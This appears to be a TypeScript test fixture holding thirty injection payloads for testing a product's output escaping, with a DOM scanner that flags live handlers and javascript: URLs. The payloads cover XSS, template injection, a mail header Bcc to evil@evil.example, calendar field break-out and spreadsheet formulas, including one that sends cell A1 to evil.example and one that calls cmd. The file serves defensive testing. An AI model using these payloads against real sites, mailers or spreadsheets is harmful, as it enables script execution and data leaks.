/** The effect of each of these if it ran: to set `window.__ran`. */
const ran = 'window.__ran=1';

/** Thirty texts that would be more than text somewhere: in markup, addresses, styles, mail headers, calendars or sheets. */
const texts = [
  `<script>${ran}</script>`,
  `</script><script>${ran}</script>`,
  `</title><script>${ran}</script>`,
  `</textarea><img src=x onerror=${ran}>`,
  `<img src=x onerror="${ran}">`,
  `"><img src=x onerror=${ran}>`,
  `'><svg onload=${ran}>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s></svg>`,
  `" autofocus onfocus="${ran}" x="`,
  `' onmouseover='${ran}' x='`,
  `\`onload=${ran} x=\``,
  `<details open ontoggle=${ran}>x</details>`,
  `<marquee onstart=${ran}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ran}"></iframe>`,
  `<object data="javascript:${ran}"></object>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${ran}">`,
  `<style>*{background:url(javascript:${ran})}</style>`,
  `</style><script>${ran}</script>`,
  `<!--<img src="--><img src=x onerror=${ran}>`,
  `<math><mtext><style><img src=x onerror=${ran}>`,
  `javascript:${ran}//`,
  `[x](javascript:${ran})`,
  `\${${ran}} {{constructor.constructor('${ran}')()}} <%= ${ran} %>`,
  `__ran\r\nBcc: evil@evil.example\r\nX-Planted: 1\r\n\r\n<script>${ran}</script>`,
  `__ran\nEND:VEVENT\nX-PLANTED:1`,
  `=HYPERLINK("https://evil.example/?"&A1)`,
  `\u202e\u2028@SUM(1+1)*cmd|' /C calc'!A0`,
];

/**
 * The places of the texts that go first in turn, one for each thing a beginning can do: be an element, close one, end an
 * attribute in double or single quotes, open a comment, be an address, be a formula, hide before a formula.
 */
export const firstTexts = [4, 2, 5, 10, 21, 23, 28, 29] as const;

/** All of them as one text, beginning with the one at this place: what comes first matters to addresses and sheets. */
export function plantedText(first: number): string {
  return [...texts.slice(first), ...texts.slice(0, first)].join(' ');
}

/** The markup of a page that came from a text instead of the product, as far as it can do something. */
export function liveMarkup(): string[] {
  const found: string[] = '__ran' in window ? ['a script ran'] : [];
  for (const element of document.querySelectorAll('*')) {
    const tag = element.localName;
    if (/^(?:iframe|object|embed|base|marquee|animate|mtext)$/.test(tag)) found.push(tag);
    if (tag === 'meta' && element.getAttribute('http-equiv') === 'refresh') found.push(tag);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) found.push(`${tag} ${name}`);
      const isAddress = /^(?:href|src|srcset|action|formaction|data|poster|xlink:href)$/.test(name);
      if (isAddress && /^\s*(?:javascript|vbscript|data:text)/i.test(value)) found.push(`${tag} ${name}`);
    }
  }
  return found;
}
